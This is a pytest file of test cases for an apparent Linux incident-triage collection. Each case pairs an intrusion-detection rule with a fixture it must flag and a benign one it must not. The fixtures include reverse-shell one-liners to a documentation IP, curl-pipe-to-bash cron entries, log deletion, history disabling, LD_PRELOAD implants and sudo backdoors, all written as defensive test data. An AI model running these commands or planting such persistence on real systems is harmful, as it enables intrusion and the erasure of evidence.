# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Every rule of the collection on what it must find, and on the harmless twin that it must not find."""

from __future__ import annotations

import json

import pytest

pytest.importorskip("duckdb")

from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._case_db import open_case  # noqa: E402
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._findings import run_rule  # noqa: E402
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis._rules import read_rules  # noqa: E402
from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.case_helpers import RULES, add_rows  # noqa: E402

OLD, NEW, NEWER = "2026-01-01T00:00:00", "2026-11-20T10:00:00", "2026-11-25T10:00:00"
LIBC = {"path": "/usr/lib/libc.so.6", "executable": "/usr/lib/libc.so.6", "mechanism": "x", "package": "libc6"}


def view(check, view_a="a", view_b="b", subject="1"):
    return {"cross_views": [{"check": check, "subject": subject, "view_a": view_a, "says_a": "there", "view_b": view_b, "says_b": "not there"}]}


def process(**facts):
    return {"pid": 42, "ppid": 1, "comm": "x", "exe": "/usr/bin/x", "cmdline": ["x"], "uids": ["0", "0", "0", "0"], "started": NEW, **facts}


def processes(*rows):
    return {"processes": [process(**row) for row in rows]}


def file(path, **facts):
    return {"path": path, "type": "file", "mode": "0644", "uid": 0, "size": 100, "btime": NEW, "mtime": NEW, "ctime": NEW, **facts}


def files(*rows):
    return {"files": [file(**row) for row in rows]}


def package_file(path, deviation, **facts):
    return {"package_files": [{"path": path, "deviation": deviation, "package": None if deviation == "unowned" else "p", "type": "file",
                               "mode": "0755", "ctime": NEW, **facts}]}


def both(one, other):
    return {table: one[table] + other[table] for table in one}


def user(**facts):
    return {"users": [{"source": "passwd", "file": "/etc/passwd", "user": "u", "uid": 1000, "password": "shadowed", "shell": "/bin/bash", **facts}]}


def key(**facts):
    return {"ssh_keys": [{"kind": "authorized", "path": "/root/.ssh/authorized_keys", "line": 1, "fingerprint": "SHA256:x", "user": "root", **facts}]}


def login(**facts):
    return {"file": "/var/log/wtmp", "record": 3, "source": "wtmp", "event": "login", "time": NEW, "user": "u", **facts}


def typed(command, program="bash"):
    return {"history": [{"path": "/root/.bash_history", "line": 1, "user": "root", "program": program, "command": command}]}


def starts(*rows, owned=True):
    """Things that start programs, on a host where owners are known."""
    base = {"path": "/etc/x", "line": 1, "user": "root", "exists": True, "enabled": True}
    return {"persistence": [{**base, **row} for row in rows] + ([LIBC] if owned else [])}


def hit(score):
    return {"webshell_hits": [{"path": "/var/www/x.php", "rule": "r", "title": "t", "score": score, "line": 1, "mtime": NEW}]}


def web_file(path, **facts):
    return {"web_files": [{"path": path, "zone": "web", "uid": 33, "owner": "www-data", "size": 500, "btime": NEW, **facts}]}


def rare(kind, hosts_with, hosts_of=6):
    return {"stack": [{"kind": kind, "kind_group": "debian 12", "value": "v", "hosts_with": hosts_with, "hosts_of": hosts_of, "path": "/x",
                       "tbl": "files", "source_row": 7}]}


def event(kind, message, **facts):
    return {"member": "[root]/var/log/x", "path": "/var/log/x", "line": 7, "time": NEW, "kind": kind, "address": "198.51.100.7",
            "message": message, "n": 1, **facts}


def logged(kind, message):
    return {"log_events": [event(kind, message)]}


def child_of(parent, child):
    return {**processes({"pid": 10, "comm": "apache2", "uids": ["33"] * 4, **parent}, {"pid": 11, "ppid": 10, "uids": ["33"] * 4, **child}),
            **user(user="www-data", uid=33)}


def bpf(comm, kind):
    return {**processes({"comm": comm}), "open_files": [{"pid": 42, "fd": 3, "bpf_program_id": 7, "bpf_program_type": kind}]}


def opened(comm, target):
    return {**processes({"comm": comm}), "open_files": [{"pid": 42, "fd": 3, "target": target}]}


def mapped(path, exe="/usr/bin/x", **facts):
    return {**processes({"exe": exe}), "mapped_files": [{"path": path, "processes": 1, "pids": ["42"], "deleted": False, **facts}]}


def setting(path, value):
    return {"kernel_settings": [{"path": path, "value": value}]}


def set_to(kind, *rows, path="/etc/x"):
    return {"settings": [{"kind": kind, "path": path, "line": 1, "name": name, "value": value} for name, value in rows]}


def unit(name, **facts):
    return {"services": [{"unit": name, "active": "active", **facts}]}


def member(group, *members):
    return {"groups": [{"source": "group", "file": "/etc/group", "line": 5, "group": group, "members": list(members)}]}


def connected(exe, **facts):
    """A process whose input and output are one connection."""
    return {**processes({"exe": exe, **facts}),
            "open_files": [{"pid": 42, "fd": fd, "type": "socket", "inode": 7} for fd in (0, 1, 2)],
            "sockets": [{"family": "inet", "protocol": "tcp", "state": "established", "inode": 7, "local_address": "192.0.2.1", "local_port": 50000,
                         "remote_address": "198.51.100.7", "remote_port": 443}]}


def emptied(path="/var/log/auth.log", mtime=NEWER, *more):
    return files({"path": path, "size": 0, "btime": OLD, "mtime": mtime}, *more)


def journal(time, kind="ssh_login"):
    return event(kind, "Accepted publickey for u", path="/var/log/journal/1/system.journal", time=time)


def begins(time, *more, **facts):
    """auth.log, made at OLD, whose first line is of `time`, with a login that the journal has of NEW."""
    lines = [event("ssh_login", "Accepted publickey for u", path="/var/log/auth.log", time=time, **facts), journal(NEW)]
    return {"log_events": lines, **files({"path": "/var/log/auth.log", "btime": OLD}, *more)}


FIREWALL = {**unit("nftables.service", enabled=True), **set_to("firewall_file", ("rule", "tcp dport 22 accept"), path="/etc/nftables.conf"),
            "items": [{"collector": "live_state", "path": "x", "state": "collected", "archived": "live/commands/nft-ruleset.txt"}]}


# Rule -> what it must find, what it must not find.
CASES = {
    "hidden-process": (view("D1"), view("D12", "taint of the kernel")),
    "process-under-mount": (view("D2"), view("D1")),
    "hidden-files": (view("D3", view_b="getdents64", subject="/etc/x"), view("D3", view_b="link count")),
    "hidden-folder-count": (view("D3", view_b="link count"), view("D3", view_b="getdents64")),
    "preload-lies": (view("D3", "libc", "system call"), view("D3", view_b="getdents64")),
    "hidden-kernel-module": (view("D12", "/proc/modules", subject="evil"), view("D12", "taint of the kernel")),
    "kernel-taint": (view("D12", "taint of the kernel"), view("D12", "/proc/modules")),
    "kernel-thread-disguise": (view("D6", "name"), view("D6", "argument 0")),
    "argument-disguise": (view("D6", "argument 0"), view("D6", "name")),
    "shell-on-socket": (view("D7"), view("D6", "name")),
    "views-disagree": (view("D14"), view("D1")),
    "deleted-executable": (
        processes({"exe": "/usr/sbin/evil (deleted)", "exe_deleted": True, "exe_path_taken": False}),
        # The package was upgraded while it ran: another file has the name, or a package is newer than the process.
        {**processes({"exe": "/usr/sbin/nginx (deleted)", "exe_deleted": True, "exe_path_taken": True},
                     {"exe": "/usr/sbin/cron (deleted)", "exe_deleted": True, "started": OLD}),
         "packages": [{"manager": "dpkg", "name": "cron", "installed": NEW}]},
    ),
    "deleted-executable-drop-zone": (
        processes({"exe": "/var/tmp/.x (deleted)", "exe_deleted": True}),
        processes({"exe": "/usr/bin/x (deleted)", "exe_deleted": True}, {"exe": "/memfd:x (deleted)", "exe_memfd": True, "exe_deleted": True}),
    ),
    "memfd-executable": (
        processes({"exe": "/memfd:planted (deleted)", "exe_memfd": True}),
        processes({"exe": "/memfd:runc_cloned:/proc/self/exe (deleted)", "exe_memfd": True}, {"exe": "/usr/bin/x"}),
    ),
    "executable-in-drop-zone": (
        processes({"exe": "/dev/shm/run"}),
        processes({"exe": "/tmp/.mount_app/usr/bin/app"}, {"exe": "/usr/bin/tmp/x"}, {"exe": "/tmp/x (deleted)", "exe_deleted": True}),
    ),
    "hidden-executable": (
        processes({"exe": "/usr/lib/.x/run"}, {"exe": "/usr/bin/ls "}),
        processes({"exe": "/home/u/.local/bin/tool"}, {"exe": "/home/u/.vscode-server/bin/node"}, {"exe": "/usr/bin/x"}),
    ),
    "library-from-drop-zone": (
        mapped("/tmp/evil.so"),
        {"processes": [process(exe="/usr/lib/jvm/bin/java"), process(pid=43, exe="/var/tmp/.x (deleted)")],
         "mapped_files": [{"path": "/tmp/liblz4-java123.so", "processes": 1, "pids": ["42"]}, {"path": "/tmp/ffiAbC (deleted)", "pids": []},
                          {"path": "/var/tmp/.x (deleted)", "pids": ["43"]}, {"path": "/usr/lib/libc.so.6", "pids": ["42"]}]},
    ),
    "unowned-library-mapped": (
        {**mapped("/usr/lib/evil.so"), **package_file("/usr/lib/evil.so", "unowned")},
        {**mapped("/usr/lib/libc.so.6"), **package_file("/usr/lib/other.so", "unowned")},
    ),
    "deleted-library": (
        {**mapped("/usr/lib/evil.so (deleted)", deleted=True), **files({"path": "/usr/lib", "type": "directory"})},
        # Upgraded: the name is there again; or a package is newer than the process; or nothing is known of files.
        {**mapped("/usr/lib/libssl.so.3 (deleted)", deleted=True),
         **files({"path": "/usr/lib", "type": "directory"}, {"path": "/usr/lib/libssl.so.3"})},
    ),
    "ld-so-preload": (
        {"view": [{"subject": "ld.so.preload past libc", "value": "collected", "detail": "/lib/evil.so"}]},
        {"view": [{"subject": "ld.so.preload past libc", "value": "absent", "detail": ""},
                  {"subject": "ld.so.preload through libc", "value": "collected", "detail": ""}]},
    ),
    "preload-in-environment": (
        processes({"environ": ["PATH=/bin", "LD_PRELOAD=/tmp/evil.so"]}),
        processes({"environ": ["LD_PRELOAD=/usr/lib/libjemalloc.so.2", "LD_PRELOAD="]}, {"environ": None}),
    ),
    "critical-file-changed": (
        package_file("/usr/sbin/sshd", "changed", critical=True),
        package_file("/etc/ssh/sshd_config", "changed", critical=True, conffile=True),
    ),
    "program-changed": (
        package_file("/usr/bin/who", "changed"),
        both(package_file("/etc/default/x", "changed", conffile=True, mode="0644"), package_file("/usr/lib/x/cacert.pem", "changed")),
    ),
    "package-file-changed": (
        package_file("/usr/share/x/page.html", "changed", mode="0644"),
        both(package_file("/usr/bin/who", "changed"), package_file("/usr/lib/x/cacert.pem", "changed")),
    ),
    "certificates-changed": (
        package_file("/usr/lib/python3/dist-packages/certifi/cacert.pem", "changed", mode="0644"),
        package_file("/etc/ssl/x.pem", "changed", conffile=True),
    ),
    "program-replaced-by-link": (
        package_file("/usr/bin/tsort", "link", type="link", reason="a link to /opt/x in its place"),
        package_file("/usr/bin/vi", "link", type="link", reason="a link to /etc/alternatives/vi in its place"),
    ),
    "package-file-missing": (package_file("/usr/sbin/auditd", "missing"), package_file("/usr/share/doc/x", "missing")),
    "suid-on-package-file": (package_file("/usr/bin/find", "mode", mode="4755"), package_file("/usr/bin/find", "mode", mode="0750")),
    "unowned-pam-module": (
        package_file("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", "unowned"),
        package_file("/usr/local/lib/security/pam_own.so", "unowned"),
    ),
    "unowned-suid": (
        package_file("/usr/bin/evil", "unowned", mode="4755"),
        {**package_file("/usr/bin/own", "unowned"), "hashes": [
            {"path": "/usr/bin/sudo", "why": ["suid"], "package": "sudo", "mode": "4755", "type": "file"},
            {"path": "/var/lib/docker/overlay2/a1/diff/usr/bin/su", "why": ["suid"], "mode": "4755", "type": "file"},
            {"path": "/home/u/.local/share/containers/storage/overlay/a1/diff/usr/bin/mount", "why": ["suid"], "mode": "4755", "type": "file"}]},
    ),
    "script-of-drop-zone-running": (
        processes({"exe": "/usr/bin/python3.11", "cmdline": ["python3", "/var/tmp/.r.py"]}),
        processes({"exe": "/usr/bin/python3.11", "cmdline": ["python3", "-m", "http.server"], "cwd": "/tmp"},
                  {"exe": "/usr/bin/dash", "cmdline": ["sh", "-c", "/tmp/x"], "cwd": "/tmp"},
                  {"exe": "/usr/bin/python3.11", "cmdline": ["python3", "/usr/bin/x", "/tmp/data"], "cwd": "/tmp"},
                  {"exe": "/usr/bin/python3.11", "cmdline": ["python3", "/home/u/.ansible/tmp/x.py"]},
                  {"exe": "/usr/bin/less", "cmdline": ["less", "/tmp/x.py"]}),
    ),
    "starts-unowned-system-program": (
        starts({"mechanism": "systemd_service", "path": "/etc/systemd/system/x.service", "executable": "/usr/lib/systemd/x"},
               {"mechanism": "cron", "path": "/etc/cron.d/c", "executable": "/usr/bin/true", "executable_package": "coreutils"}),
        starts({"mechanism": "cron", "path": "/etc/cron.d/own", "executable": "/usr/local/bin/backup"},
               {"mechanism": "cron", "path": "/etc/cron.d/tool", "executable": "/usr/bin/true", "executable_package": "coreutils"},
               {"mechanism": "cron", "path": "/etc/cron.d/gone", "executable": "/usr/bin/gone", "exists": False}),
    ),
    "webshell-client-logged-in": (
        {"log_events": [event("web_suspect_script", '"POST /x.php HTTP/1.1" 200 5'), event("ssh_login", "Accepted publickey for root")]},
        {"log_events": [event("web_suspect_script", '"POST /x.php HTTP/1.1" 404 5', address="198.51.100.8"),
                        event("ssh_login", "Accepted publickey for root", address="198.51.100.8"),
                        event("ssh_login", "Accepted publickey for root", address="198.51.100.9"),
                        event("web_suspect_script", '"POST /x.php HTTP/1.1" 200 5', address="127.0.0.1"),
                        event("ssh_login", "Accepted publickey for root", address="127.0.0.1")]},
    ),
    "login-record-without-start": (
        {"logins": [login(source="utmp", file="/run/utmp", event="boot", time=OLD), login()]},
        {"logins": [login(source="utmp", file="/run/utmp", event="boot", time=OLD), login(event="boot", time=OLD), login()]},
    ),
    "suid-in-odd-place": (
        files({"path": "/tmp/.sh", "mode": "4755"}),
        files({"path": "/usr/bin/sudo", "mode": "4755"}, {"path": "/tmp/x", "mode": "0755"}, {"path": "/srv/containers/a/su", "mode": "4755"}),
    ),
    "unowned-system-program": (
        package_file("/usr/sbin/evil", "unowned"),
        package_file("/usr/local/bin/own", "unowned"),
    ),
    "unowned-library": (
        package_file("/usr/lib/x86_64-linux-gnu/libevil.so.1", "unowned"),
        package_file("/usr/lib/python3/dist-packages/x.so", "unowned"),
    ),
    "capability-of-no-package": (
        {**files({"path": "/usr/bin/perl", "capabilities": "cap_net_raw=ep"}, {"path": "/tmp/x", "capabilities": "cap_net_bind_service=ep"},
                 {"path": "/opt/x", "capabilities": "cap_net_admin=eip"}),
         "hashes": [{"path": "/opt/x"}, {"path": "/usr/bin/ping", "package": "iputils"}]},
        {**files({"path": "/usr/bin/ping", "capabilities": "cap_net_raw=ep"}, {"path": "/opt/caddy", "capabilities": "cap_net_bind_service=ep"},
                 {"path": "/usr/bin/perl"}),
         "hashes": [{"path": "/opt/caddy"}, {"path": "/usr/bin/ping", "package": "iputils"}]},
    ),
    "dangerous-capability": (
        files({"path": "/usr/bin/python3.11", "capabilities": "cap_setuid=ep"}, {"path": "/var/tmp/newuidmap", "capabilities": "cap_setuid=ep"}),
        files({"path": "/usr/bin/ping", "capabilities": "cap_net_raw=ep"}, {"path": "/usr/bin/newuidmap", "capabilities": "cap_setuid=ep"}),
    ),
    "program-with-attributes": (
        files({"path": "/usr/bin/x", "xattrs": "security.selinux user.x"}),
        files({"path": "/usr/bin/x", "xattrs": "security.selinux"}, {"path": "/opt/y.AppImage", "xattrs": "user.xdg.origin.url"}, {"path": "/usr/bin/z"}),
    ),
    "immutable-file": (
        files({"path": "/etc/cron.d/x", "attributes": "i"}),
        files({"path": "/etc/resolv.conf", "attributes": "i"}, {"path": "/var/log/x.log", "attributes": "a"}),
    ),
    "uid-0-twin": (user(user="toor", uid=0), user(user="root", uid=0)),
    "empty-password": (user(empty=True), user(empty=True, shell="/usr/sbin/nologin")),
    "hash-in-passwd": (user(password="sha512"), user(password="none")),
    "service-account-login": (user(user="sync2", uid=7, has_hash=True), user(user="u", uid=1000, has_hash=True)),
    "service-account-key": (key(user="www-data"), key(user="root")),
    "key-with-environment": (key(has_environment=True), key()),
    "key-runs-command": (key(has_command=True, command="/bin/sh"), key()),
    "login-record-wiped": (
        {"logins": [login(zeroed=True, records=1)]},
        {"logins": [login(source="lastlog", zeroed=True), login()]},
    ),
    "login-record-missing": (
        {"logins": [login(source="wtmpdb", record=1), login(source="wtmpdb", record=5, missing_before=3)]},
        # The oldest were removed, as they are.
        {"logins": [login(source="wtmpdb", record=9, missing_before=8), login(source="wtmpdb", record=10)]},
    ),
    "login-record-blanked": ({"logins": [login(user=None, blanked=True)]}, {"logins": [login()]}),
    "login-record-backwards": (
        {"logins": [login(out_of_order=True, seconds_back=3600)]},
        {"logins": [login(out_of_order=True, seconds_back=2), login(event="boot", out_of_order=True, seconds_back=3600)]},
    ),
    "guessed-password": (
        {"logins": [login(source="btmp", event="failed", address="198.51.100.7", time=OLD)] * 12 + [login(address="198.51.100.7")]},
        {"logins": [login(source="btmp", event="failed", address="198.51.100.7", time=OLD)] * 3 + [login(address="198.51.100.7")]},
    ),
    "history-to-null": (
        {"history_files": [{"path": "/root/.bash_history", "link_target": "/dev/null"}]},
        {"history_files": [{"path": "/root/.bash_history", "link_target": "/data/history"}]},
    ),
    "history-switched-off": (
        processes({"environ": ["HISTFILE=/dev/null"]}), processes({"environ": ["HISTFILE=/root/.bash_history", "HISTSIZE=1000"]}),
    ),
    "history-wiped": (
        {"history": [{"path": "/root/.bash_history", "line": 3, "note": "512 zero bytes"}]},
        {"history": [{"path": "/root/.bash_history", "line": 3, "note": "a time without a command"}]},
    ),
    "history-protected": (
        {"history_files": [{"path": "/root/.bash_history", "immutable": True}]},
        {"history_files": [{"path": "/root/.bash_history", "append_only": True}]},
    ),
    "evil-history": (typed("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), typed("curl -fsSL https://get.example.org | sh")),
    "fetched-and-run": (typed("curl -fsSL https://get.example.org | sh"), typed("curl -o x https://example.org/x")),
    "traces-removed-history": (typed("rm -rf /var/log/audit"), typed("rm -rf /var/cache/apt; history | grep clear")),
    "log-to-null": (
        {"log_files": [{"path": "/var/log/nginx/access.log", "to_null": True}]},
        {"log_files": [{"path": "/var/log/nginx/access.log", "target": "/dev/stdout"}]},
    ),
    "system-log-to-null": (
        files({"path": "/var/log/wtmp", "type": "link", "target": "/dev/null"}),
        files({"path": "/var/log/nginx/access.log", "type": "link", "target": "/dev/null"}, {"path": "/var/log/wtmp"}),
    ),
    "packet-socket": (
        {"sockets": [{"family": "packet", "comms": ["kworker"], "pids": ["9"], "inode": 5}]},
        {"sockets": [{"family": "packet", "comms": ["dhclient"], "pids": ["9"], "inode": 5}, {"family": "inet", "comms": ["x"]}]},
    ),
    "bpf-program": (bpf("x", 2), {**bpf("systemd", 2)}),
    "traced-process": (
        processes({"pid": 42, "tracer_pid": 50}, {"pid": 50, "comm": "inject"}),
        processes({"pid": 42, "tracer_pid": 50}, {"pid": 50, "comm": "gdb"}, {"pid": 51, "tracer_pid": 0}),
    ),
    "memory-or-keyboard-read": (opened("x", "/proc/99/mem"), opened("systemd-logind", "/dev/input/event0")),
    "evil-command-running": (
        processes({"cmdline": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"]}),
        processes({"cmdline": ["sh", "-c", "curl https://example.org"]}),
    ),
    "tunnel-running": (
        processes({"exe": "/usr/bin/ssh", "cmdline": ["ssh", "-N", "-R", "2222:localhost:22", "x@example.org"]}),
        processes({"exe": "/usr/bin/ssh", "cmdline": ["ssh", "-o", "X=Y", "host"]}, {"exe": "/usr/sbin/sshd"}),
    ),
    "shell-below-service": (
        child_of({"exe": "/usr/sbin/apache2"}, {"exe": "/usr/bin/dash", "cmdline": ["sh", "-i"]}),
        child_of({"exe": "/usr/sbin/sshd"}, {"exe": "/usr/bin/bash"}),
    ),
    "persistence-in-drop-zone": (
        starts({"mechanism": "cron", "command": "/dev/shm/.x/run", "executable": "/dev/shm/.x/run"}),
        starts({"mechanism": "cron", "command": "find /tmp -mtime +7 -delete", "executable": "/usr/bin/find"},
               {"mechanism": "systemd_service", "command": "/usr/bin/x --socket /tmp/x.sock", "executable": "/usr/bin/x"},
               {"mechanism": "tmpfiles", "command": "f^ /root/.ssh/authorized_keys", "executable": "/root/.ssh/authorized_keys"}),
    ),
    "startup-file-of-drop-zone": (
        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/tmp/.env"}),
        starts({"mechanism": "shell_startup", "path": "/root/.bashrc", "executable": "/root/.cargo/env"},
               {"mechanism": "cron", "executable": "/tmp/x"}),
    ),
    "persistence-evil-command": (
        starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"},
               {"mechanism": "cron", "command": "bash -c 'base64 -d /srv/x > /srv/y'"}),
    ),
    "persistence-preload": (
        starts({"mechanism": "ld_preload", "command": "/lib/evil.so", "path": "/etc/ld.so.preload"}),
        starts({"mechanism": "systemd_service", "command": "LD_PRELOAD=/usr/lib/libjemalloc.so.2 /usr/sbin/mysqld"}),
    ),
    "auth-module-unowned": (
        starts({"mechanism": "pam", "executable": "/lib/security/pam_evil.so"},
               {"mechanism": "pam", "executable": "/lib/security/pam_unix.so", "executable_package": "libpam"}),
        # Nothing is known of packages here.
        starts({"mechanism": "pam", "executable": "/lib/security/pam_unix.so"}),
    ),
    "pam-runs-program": (starts({"mechanism": "pam", "command": "session optional pam_exec.so /x"}), starts({"mechanism": "pam", "command": "pam_unix.so"})),
    "unit-of-no-package": (
        starts({"mechanism": "systemd_service", "path": "/usr/lib/systemd/system/evil.service"}),
        starts({"mechanism": "systemd_service", "path": "/etc/systemd/system/own.service"},
               {"mechanism": "systemd_service", "path": "/usr/lib/systemd/system/cron.service", "package": "cron"}),
    ),
    "generator-of-no-package": (
        starts({"mechanism": "systemd_generator", "path": "/etc/systemd/system-generators/x"}),
        starts({"mechanism": "systemd_generator", "path": "/usr/lib/systemd/system-generators/x", "package": "systemd"}),
    ),
    "cron-of-service-user": (
        starts({"mechanism": "cron", "path": "/var/spool/cron/crontabs/www-data", "user": "www-data"}),
        starts({"mechanism": "cron", "path": "/etc/cron.d/php", "user": "www-data"}, {"mechanism": "cron", "path": "/var/spool/cron/crontabs/root"}),
    ),
    "cron-file-of-service-user": (
        files({"path": "/var/spool/cron/crontabs/www-data"}),
        {**files({"path": "/var/spool/cron/crontabs/root"}, {"path": "/var/spool/cron/crontabs/www-data"}),
         **starts({"mechanism": "cron", "path": "/var/spool/cron/crontabs/www-data"})},
    ),
    "hook-of-no-package": (
        starts({"mechanism": "udev", "path": "/etc/udev/rules.d/1.rules", "executable": "/usr/bin/evil"},
               {"mechanism": "sudo_plugin", "path": "/etc/sudo.conf", "executable": "/opt/x.so"}),
        starts({"mechanism": "udev", "path": "/etc/udev/rules.d/1.rules", "executable": "/usr/bin/x", "executable_package": "x"}),
    ),
    "young-persistence": (
        {**starts({"mechanism": "systemd_service", "executable": "/usr/local/bin/x", "btime": NEWER}), "packages": [{"name": "a", "installed": NEW}]},
        {**starts({"mechanism": "systemd_service", "executable": "/usr/local/bin/x", "btime": OLD}), "packages": [{"name": "a", "installed": NEW}]},
    ),
    "persistence-target-missing": (
        starts({"mechanism": "cron", "executable": "/home/gone/run.sh", "exists": False}),
        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False},
               {"mechanism": "shell_startup", "command": "[ -f ~/.fzf.bash ] && . ~/.fzf.bash", "executable": "/home/u/.fzf.bash", "exists": False}),
    ),
    "webshell": (hit(90), hit(60)),
    "webshell-likely": (hit(50), hit(90)),
    "webshell-sign": (hit(20), hit(50)),
    "program-in-web-root": (web_file("/var/www/html/x", magic="elf"), web_file("/var/www/html/cgi-bin/x", magic="elf")),
    "script-posing-as-picture": (web_file("/var/www/html/a.jpg", magic="php_tag"), web_file("/var/www/html/a.php", magic="php_tag")),
    "script-among-uploads": (
        web_file("/var/www/html/uploads/x.php", script="php"),
        web_file("/var/www/html/uploads/index.php", script="php", size=28),
    ),
    "program-in-drop-zone": (
        files({"path": "/tmp/x", "mode": "0755"}),
        files({"path": "/tmp/systemd-private-1/tmp/x", "mode": "0755"}, {"path": "/tmp/x", "mode": "0644"}, {"path": "/usr/bin/x", "mode": "0755"}),
    ),
    "program-content-in-drop-zone": (
        {**web_file("/tmp/x", zone="tmp", magic="elf"), **files({"path": "/tmp/x"})},
        both({**web_file("/var/www/html/x", magic="elf"), **files({"path": "/tmp/y", "mode": "0755"})},
             {**web_file("/tmp/y", zone="tmp", magic="elf"), "files": []}),
    ),
    "file-in-dev": (files({"path": "/dev/.x"}), files({"path": "/dev/shm/x"}, {"path": "/dev/null", "type": "char"})),
    "odd-file-name": (
        files({"path": "/tmp/.. /x"}, {"path": "/etc/..."}),
        files({"path": "/home/u/my file "}, {"path": "/etc/x.conf"}, {"path": "/var/lib/x/a name /y"}, {"path": "/usr/share/ca/F\u0151tan\u00fas.crt"},
              {"path": "/etc/systemd/system/dev-disk\\\\x0a.mount"}, {"path": "/opt/x\\xe9t\\xe9"}),
    ),
    "hidden-in-drop-zone": (
        files({"path": "/dev/shm/.x", "type": "directory"}), files({"path": "/tmp/.X11-unix", "type": "directory"}, {"path": "/tmp/.x"}),
    ),
    "known-implant-path": (files({"path": "/usr/lib/libseconf"}), files({"path": "/usr/lib/libsecret-1.so.0"})),
    "stolen-secrets-staged": (
        files({"path": "/tmp/shadow.bak"}, {"path": "/var/tmp/id_rsa"}), files({"path": "/etc/shadow"}, {"path": "/tmp/shadows.txt", "size": 0}),
    ),
    "time-set-back": (
        files(*({"path": f"/usr/bin/{name}", "btime": OLD, "mtime": OLD} for name in "abcd"), {"path": "/usr/bin/e", "btime": NEW, "mtime": OLD}),
        # Owned by a package, or unpacked together with others.
        {**files(*({"path": f"/usr/bin/{name}", "btime": OLD, "mtime": OLD} for name in "abcd"), {"path": "/usr/bin/e", "btime": NEW, "mtime": OLD}),
         "hashes": [{"path": "/usr/bin/e", "package": "e"}]},
    ),
    "core-dump-program": (
        setting("/proc/sys/kernel/core_pattern", "|/tmp/x %p"),
        {"kernel_settings": [{"path": "/proc/sys/kernel/core_pattern", "value": value} for value in (
            "core", "|/usr/lib/systemd/systemd-coredump %P", "|/usr/share/apport/apport -p%p", "|/bin/false")]},
    ),
    "module-loader-changed": (setting("/proc/sys/kernel/modprobe", "/tmp/x"), setting("/proc/sys/kernel/modprobe", "/sbin/modprobe")),
    "kernel-module-without-file": (
        {"modules": [{"name": "ext4", "file": "/x"}, {"name": "xfs", "file": "/x"}, {"name": "evil"}]},
        # The kernel's modules were removed as a whole.
        {"modules": [{"name": "ext4"}, {"name": "xfs"}]},
    ),
    "foreign-kernel-module": ({"modules": [{"name": "nvidia", "taints": "OE"}]}, {"modules": [{"name": "ext4", "taints": ""}]}),
    "malware-found": (
        {"av_hits": [{"engine": "clamav", "kind": "infected", "path": "/x", "signature": "Unix.Trojan"}]},
        {"av_hits": [{"engine": "rkhunter", "kind": "warning", "path": "/x"}]},
    ),
    "scanner-warning": (
        {"av_hits": [{"engine": "rkhunter", "kind": "warning", "message": "m"}]},
        {"av_hits": [{"engine": "clamav", "kind": "infected", "path": "/x"}]},
    ),
    "web-prepends-script": (
        {"web_services": [{"kind": "handler", "file": "/etc/apache2/x.conf", "line": 3, "setting": "php_value auto_prepend_file /tmp/x.php"}]},
        {"web_services": [{"kind": "handler", "file": "/etc/apache2/x.conf", "line": 3, "setting": "auto_prepend_file = "}]},
    ),
    "privileges-without-root": (
        processes({"exe": "/usr/bin/bash", "uids": ["1000"] * 4, "cap_effective": "000001ffffffffff"}),
        processes({"exe": "/usr/bin/bash", "uids": ["0"] * 4, "cap_effective": "000001ffffffffff"},
                  {"exe": "/usr/bin/bash", "uids": ["1000"] * 4, "cap_effective": "0000000000000400"}),
    ),
    "webshell-requested": (logged("web_suspect_script", '"POST /x.php HTTP/1.1" 200 5'), logged("web_request", '"GET / HTTP/1.1" 200 5')),
    "web-command-output": (logged("web_command_output", "sh: 1: wgett: not found"), logged("web_error", "File does not exist")),
    "web-attack-answered": (logged("web_command", '"GET /?cmd=id HTTP/1.1" 200 5'), logged("web_command", '"GET /?cmd=id HTTP/1.1" 404 5')),
    "guessed-ssh-password": (
        {"log_events": [event("ssh_failed", "Failed password", n=50, time=OLD), event("ssh_login", "Accepted password for root")]},
        {"log_events": [event("ssh_failed", "Failed password", n=3, time=OLD), event("ssh_login", "Accepted password for root"),
                        event("ssh_login", "Accepted publickey for root")]},
    ),
    "sudo-for-service-account": (
        set_to("sudo", ("www-data", "ALL=(ALL) NOPASSWD: ALL")),
        set_to("sudo", ("root", "ALL=(ALL:ALL) ALL"), ("%sudo", "ALL=(ALL:ALL) ALL"), ("responder", "ALL=(ALL) NOPASSWD: ALL"),
               ("ALL", "ALL=(ALL) ALL"), ("www-data", "ALL=(root) NOPASSWD: /usr/bin/systemctl reload ALLtogether"), ("Defaults:www-data", "!syslog")),
    ),
    "sudo-includes-elsewhere": (
        set_to("sudo", ("@includedir", "/var/lib/.s")),
        set_to("sudo", ("@includedir", "/etc/sudoers.d"), ("@include", "/etc/sudoers.local"), ("@includedir", "sudoers.d # x")),
    ),
    "sudo-weakened": (
        set_to("sudo", ("Defaults", 'env_keep += "LD_PRELOAD"')),
        set_to("sudo", ("Defaults:nagios", "!syslog"), ("Defaults", 'env_keep += "LANG http_proxy"'), ("Defaults", "env_reset"), ("Defaults", "!fqdn")),
    ),
    "sudo-gives-shell": (
        set_to("sudo", ("deploy", "ALL=(root) NOPASSWD: /usr/bin/vim, /usr/bin/id")),
        set_to("sudo", ("deploy", "ALL=(root) NOPASSWD: /usr/bin/systemctl restart x, /usr/bin/tar xf /srv/x.tar"), ("alice", "ALL=(ALL) NOPASSWD: ALL"),
               ("bob", "ALL=(root) /usr/bin/vim")),
    ),
    "service-account-in-admin-group": (member("sudo", "alice", "games"), {**member("sudo", "alice"), **member("ssl-cert", "www-data")}),
    "suid-gives-shell": (
        files({"path": "/usr/bin/find", "mode": "4755"}),
        files({"path": "/usr/bin/find", "mode": "0755"}, {"path": "/usr/bin/sudo", "mode": "4755"}, {"path": "/usr/bin/wall", "mode": "2755"},
